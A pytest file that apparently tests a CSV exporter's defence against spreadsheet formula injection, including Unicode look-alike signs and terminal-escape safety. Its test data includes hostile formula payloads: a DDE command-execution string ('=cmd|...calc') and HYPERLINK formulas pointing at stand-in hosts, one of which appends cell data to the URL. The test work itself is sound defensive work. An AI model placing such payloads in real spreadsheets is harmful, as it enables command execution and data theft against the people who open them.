"""Cells of tables give no orders to spreadsheets."""

from __future__ import annotations

import csv
import re
import sys
import unicodedata
from fractions import Fraction
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from terminal_orders import CHECKS, COMMANDS, HOSTILE, assert_quiet

from mechproof.sweep import CellResult, Grid, SweepResult
from theory.shared.printable import printable


@pytest.fixture(autouse=True)
def _here(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Any:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("sys.path", list(sys.path))
    Path("hostile_checks.py").write_text(CHECKS, encoding="utf-8")
    yield
    sys.modules.pop("hostile_checks", None)


# --- CSV


FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "=", "-", "+",
    "@", "-x", "+x", '=HYPERLINK("https://evil.example")', "'=1", "''=1", "'@x",
    "-2+3+cmd|' /C x'!A",
    "=1,2", '="a"', "-1/2/3", "1e5x", "-inf", "+nan",
    " =1", "  '=1", " \n @x", "\u3000=1", "\u200b=1",
    "\uff1d1", "\uff0b1", "\uff201", "\uff0dx", "\u2212x",
    "\ufe661", "\ufe621", "\ufe63x", "\ufe6b1", "\u2060=1", "\u00ad=1", "\u180e=1", "\u200e=1",
    "\x00=1", "\u3164=1", "\u115f=1", "\u1160=1", "\uffa0=1", "\ufeff=1", "\xa0=1", "\u200d=1",
    '=\u0338+HYPERLINK("https://evil.example")', "\uff1d\u0338x", "=\u20e5x", "a;=\u0338x",
    "\u2800=1", "\u2800 \u2800@x", "\U0001d159=1", "\U00013441=1", "\u16fe4=1", "a;\u2800-x",
    "a;=1+1", "a;=1+1;b", 'a";=1+1;"', "a;;\u200b=1", "a\t=1", "a\n=1", ";=1", "a; '=1", "a\n;-x",
)  # fmt: skip
HARMLESS = (
    "plain",
    "1=1",
    "a@b",
    "'quoted'",
    "",
    "-1",
    "+1.5",
    "-1/2",
    "-1e-5",
    "x\ty",
    "'",
)


def cells_of(texts: tuple[str, ...]) -> tuple[list[list[str]], SweepResult]:
    grid = Grid({"x": range(len(texts))})
    rows = tuple(
        CellResult(cell, {"said": text, "=1+1": text}, "")
        for cell, text in zip(grid, texts, strict=True)
    )
    found = SweepResult(grid, rows)
    return list(csv.reader(StringIO(found.to_csv(), newline=""))), found


def read_back(cell: str) -> str:
    blank = r"[\s'\"\u2800\u16fe4\U00013441\U0001d159]*"
    sign = blank + r"[=+@\u2212\uff1d\uff0b\uff20\uff0d\ufe66\ufe62\ufe63\ufe6b-]"
    return re.sub(rf"(^|[;\t\n])'(?={sign})", r"\1", cell)


def parts_of(found: SweepResult) -> list[str]:
    """Return the cells of a table as spreadsheets of any language may cut it."""
    text = found.to_csv()
    cells = [cell for row in csv.reader(StringIO(text, newline="")) for cell in row]
    for separator in ";\t":
        cut = csv.reader(StringIO(text, newline=""), delimiter=separator)
        cells += [cell for row in cut for cell in row]
    return cells + re.split("[;\t\n]", text)


GRID = Grid({"x": [0]})


def is_formula(cell: str) -> bool:
    plain = unicodedata.normalize("NFKD", cell)
    skipped, blank = ("C", "Z"), "\u3164\u115f\u2800\u16fe4\U00013441\U0001d159"
    while plain and (unicodedata.category(plain[0])[0] in skipped or plain[0] in blank):
        plain = plain[1:]
    return plain.startswith(("=", "+", "@", "-", "\u2212"))


def test_no_cell_is_a_formula() -> None:
    for cell in parts_of(cells_of(FORMULAS)[1]):
        assert not is_formula(cell), cell


def test_no_mark_before_a_sign_hides_a_formula() -> None:
    quoted = ['a;"=HYPERLINK(http://evil/?&A1)&1;b', '"=1', 'a;"=1;b', 'a\t"=1', 'a\n"=1', 'a;""=1']
    marks = [chr(n) for n in range(0x3001) if chr(n).isprintable()]
    texts = [f"a{cut}{mark}=1{cut}b" for cut in ";,\t\n" for mark in marks]
    for text in [*quoted, *texts]:
        for cell in parts_of(SweepResult(GRID, (CellResult(GRID[0], {"v": text}, ""),))):
            assert not is_formula(cell), text


def test_every_text_is_read_back_as_it_is_printed() -> None:
    texts = (*FORMULAS, *HARMLESS)
    (names, *rows), found = cells_of(texts)
    printed = [printable(text, lines=True) for text in texts]
    assert [read_back(row[1]) for row in rows] == printed
    assert [read_back(name) for name in names][:3] == ["x", "said", "=1+1"]
    assert found.column("said") == texts


def test_a_table_for_spreadsheets_gives_no_orders_to_a_terminal() -> None:
    _, found = cells_of(COMMANDS)
    assert_quiet(found.to_csv())
    grid = Grid({"x": [HOSTILE, "y"]})
    told = (({HOSTILE: HOSTILE}, ""), (None, HOSTILE))
    rows = tuple(CellResult(c, v, e) for c, (v, e) in zip(grid, told, strict=True))
    assert_quiet(SweepResult(grid, rows).to_csv())


def test_texts_are_quoted_and_numbers_are_not() -> None:
    grid = Grid({"x": [1]})
    values: dict[str, Any] = {
        "a": Fraction(1, 3),
        "b": "1/3",
        "c": None,
        "d": True,
        "e": 'say "no"',
    }
    found = SweepResult(grid, tuple(CellResult(cell, values, "") for cell in grid))
    assert found.to_csv().splitlines()[1] == '1,1/3,"1/3",,True,"say ""no""",'


def test_numbers_and_everyday_texts_stay_as_they_are() -> None:
    (_, *rows), _ = cells_of(HARMLESS)
    assert [row[1] for row in rows] == list(HARMLESS)
    grid = Grid({"x": [-1, 0]})
    numbers = SweepResult(grid, tuple(CellResult(c, {"v": -1.5}, "") for c in grid))
    assert numbers.to_csv() == '"x","v","error"\n-1,-1.5,\n0,-1.5,\n'


def test_errors_are_no_formulas() -> None:
    grid = Grid({"x": [0]})
    found = SweepResult(grid, tuple(CellResult(c, None, "=1+1") for c in grid))
    assert found.to_csv() == '"x","error"\n0,"\'=1+1"\n'
